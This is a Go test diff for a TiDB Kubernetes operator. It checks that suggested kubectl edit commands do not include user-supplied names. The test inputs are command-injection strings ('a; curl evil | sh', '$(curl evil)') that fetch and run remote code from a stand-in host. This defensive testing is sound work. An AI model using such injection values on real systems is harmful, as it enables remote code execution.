@@ -109,3 +109,14 @@ func TestAMessageAboutAGroupsSpecBecomesOneAboutTheTidbClusters(t *testing.T) {
 	}
 	assert.Equal(t, "spec.config: bad: kubectl -n ns edit tikvgroup kv", origin.OfGroup(&v1alpha1.TiKVGroup{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "kv"}}).Translate("spec.config: bad"))
 }
+
+// What a user has made by hand may name anything. A command that others paste quotes none of it.
+func TestACommandNamesOnlyWhatCanBeTheNameOfAnObject(t *testing.T) {
+	i := &v1alpha1.Instance{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "mine", Labels: map[string]string{v1alpha1.LabelComponent: v1alpha1.ComponentTiKV}}}
+	for _, group := range []v1alpha1.InstanceGroup{{Kind: v1alpha1.KindTiKVGroup, Name: "a; curl evil | sh"}, {Kind: "$(curl evil)", Name: "a"}} {
+		i.Spec.Group = group
+		assert.Equal(t, "kubectl -n ns edit instance mine", origin.OfInstance(i, false).Edit())
+	}
+	g := &v1alpha1.TiKVGroup{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "kv", OwnerReferences: []metav1.OwnerReference{{Kind: v1alpha1.KindTidbCluster, Name: "a; curl evil | sh", Controller: ptr.To(true)}}}}
+	assert.Equal(t, "kubectl -n ns edit tikvgroup kv", origin.OfGroup(g).Edit())
+}
